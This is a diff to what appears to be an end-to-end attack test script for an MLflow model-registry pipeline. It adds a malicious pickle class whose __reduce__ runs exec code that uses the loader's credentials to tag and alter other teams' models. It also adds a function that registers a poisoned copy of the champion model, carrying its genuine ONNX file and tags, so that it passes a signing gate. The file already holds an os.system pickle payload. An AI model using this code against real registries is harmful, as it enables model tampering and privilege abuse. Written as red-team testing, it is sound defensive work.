@@ -12,6 +12,10 @@ store in MLFLOW_TRACKING_URI. It uses only MLflow's client and the pipeline's pu
                                                              the preprocess run behind the champion: its
                                                              preprocessor.cloudpickle overwritten
     python tests/e2e/attacks.py restore MODEL BACKUP         undo tag-edit or swap-transformer
+    python tests/e2e/attacks.py gated-payload MODEL MARKER TEAM_MODEL
+                                                             a copy of MODEL@champion (its genuine ONNX
+                                                             file) whose model.pkl, when unpickled, tries
+                                                             to change TEAM_MODEL with the loader's login
 """
 
 from __future__ import annotations
@@ -40,6 +44,28 @@ class Shell:
 
     def __reduce__(self):
         return os.system, (f"touch {self.marker}",)
+
+
+class Writer:
+    """What the pickle holds: Python run when it is unpickled that tries, with the login of the
+    process that loads it, what only the lead or another member may do (tag the team model, write
+    a run into the gate's experiment, tag a member's model), and writes each outcome to the marker."""
+
+    def __init__(self, marker: str, team_model: str, member_model: str):
+        self.marker, self.team_model, self.member_model = marker, team_model, member_model
+
+    def __reduce__(self):
+        code = (
+            "import json, os\nfrom mlflow import MlflowClient\nc = MlflowClient()\n"
+            "out = {'user': os.environ.get('MLFLOW_TRACKING_USERNAME')}\n"
+            f"tries = {{'tag the team model': lambda: c.set_registered_model_tag({self.team_model!r}, 'pwned', '1'),\n"
+            "  'run in the gate experiment': lambda: c.create_run(c.get_experiment_by_name('demo/gate').experiment_id),"
+            f"\n  'tag a member model': lambda: c.set_registered_model_tag({self.member_model!r}, 'pwned', '1')}}\n"
+            "for what, attempt in tries.items():\n"
+            "    try:\n        attempt()\n        out[what] = 'done'\n"
+            "    except Exception as exc:\n        out[what] = str(exc)[:300]\n"
+            f"open({self.marker!r}, 'w').write(json.dumps(out))\n")
+        return exec, (code, {})  # one namespace: the lambdas see the client
 
 
 def _champion(client: MlflowClient, model: str):
@@ -112,7 +138,31 @@ def forge_qa_run(model: str, marker: str, alias: str) -> None:
     client.set_registered_model_alias(model, alias, version.version)
 
 
+def gated_payload(model: str, marker: str, team_model: str) -> None:
+    """A member's own kind of attack that passes the team gate: a copy of MODEL@champion's files,
+    its ONNX conversion genuine (what the gate scores), its model.pkl a Writer; a version of MODEL
+    with the champion's tags, at the champion alias. The gate signs it; a server on the
+    scikit-learn runtime unpickles it."""
+    import tempfile
+
+    from sklearn.dummy import DummyClassifier
+
+    client = MlflowClient()
+    champion = client.get_model_version_by_alias(model, "champion")
+    with tempfile.TemporaryDirectory() as tmp:
+        files = Path(mlflow.artifacts.download_artifacts(f"models:/{model}/{champion.version}", dst_path=tmp))
+        others = sorted(m.name for m in client.search_registered_models() if m.name.startswith(team_model + ".")
+                        and m.name != model)
+        (files / "model.pkl").write_bytes(pickle.dumps(Writer(marker, team_model, others[0])))
+        with mlflow.start_run():
+            info = mlflow.sklearn.log_model(DummyClassifier().fit([[0]], [0]), name="model",
+                                            serialization_format="cloudpickle", pip_requirements=["scikit-learn"])
+        client.log_model_artifacts(info.model_id, str(files))
+    version = client.create_model_version(model, info.model_uri, model_id=info.model_id, tags=champion.tags)
+    client.set_registered_model_alias(model, "champion", version.version)
+
+
 if __name__ == "__main__":
     command, *args = sys.argv[1:]
     {"tag-edit": tag_edit, "forge-qa-run": forge_qa_run, "swap-transformer": swap_transformer,
-     "restore": restore}[command](*args)
+     "restore": restore, "gated-payload": gated_payload}[command](*args)
